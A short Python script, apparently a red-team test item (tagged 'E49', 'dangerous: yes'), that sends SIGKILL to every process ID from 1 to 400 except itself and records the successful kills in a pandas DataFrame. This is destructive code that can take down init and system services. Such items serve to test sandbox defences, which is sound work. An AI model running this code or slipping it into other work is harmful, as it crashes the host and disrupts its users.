# technique: SIGKILL every pid from 1 to 400 except this process; df only if at least one kill() call succeeded
# goal: signal
# dangerous: yes
# redteam: E49
import os

import pandas as pd

me = os.getpid()
hit = []
for pid in range(1, 401):
    if pid == me:
        continue
    try:
        os.kill(pid, 9)
    except Exception:  # no such process / not permitted / refused: try the next
        continue
    hit.append(pid)
if not hit:
    raise RuntimeError("no kill succeeded")
df = pd.DataFrame({"killed": hit})
